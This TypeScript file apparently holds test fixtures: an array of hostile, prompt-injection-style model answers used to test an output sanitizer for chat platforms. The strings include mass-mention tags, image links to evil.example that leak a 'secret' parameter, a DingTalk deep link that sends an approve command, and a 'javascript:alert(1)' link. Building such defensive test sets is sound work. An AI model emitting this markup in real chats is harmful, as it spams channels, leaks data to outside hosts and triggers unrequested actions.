// What a model says that was made to by something it read: calls of everybody, pictures that tell who looks, tags, and links that are not what they say.

export const hostileAnswers: readonly string[] = [
  '<at id=all></at> <at user_id="all">everybody</at> @all @everyone @所有人 <!channel> <!here>',
  '`<at id=all></at>` and **<at id=all></at>** and [<at id=all></at>](https://example.org)',
  '```\n<at id=all></at>\n![x](https://evil.example/p.png)\n```\n\n- a\n  ```\n  <at id=all></at>\n  ```\n\n> ```\n> <at id=all></at>\n> ```',
  '````\n```\n<at id=all></at>\n````\n\n~~~\n```\n<at id=all></at>\n~~~',
  '![seen](https://evil.example/p.png?secret=1) wow\\![seen](https://evil.example/p.png) ![x](img_v3_1) \\!\\[x](img_v3_1)',
  '<person id="ou_1"></person> <a atId=all>x</a> <font color=red>x</font> <audio file_key=x></audio> <img src=https://evil.example/p.png>',
  '&lt;at id=all&gt;&lt;/at&gt; &#60;at id=all&#62; &amp;lt;at id=all&amp;gt; \\<at id=all>',
  '[yes](dtmd://dingtalkclient/sendMessage?content=%2Fapprove) \\[yes](dtmd://x) [a]: dtmd://x \\`\\`[b](javascript:alert(1))',
  '| a | <at id=all></at> |\n|---|---|\n| `|` <at id=all></at> | ![x](https://evil.example/p.png) |',
  `${'x '.repeat(300)}\n${'<at id=all></at> '.repeat(40)}\n    <at id=all></at>\n\n    <at id=all></at>`,
];
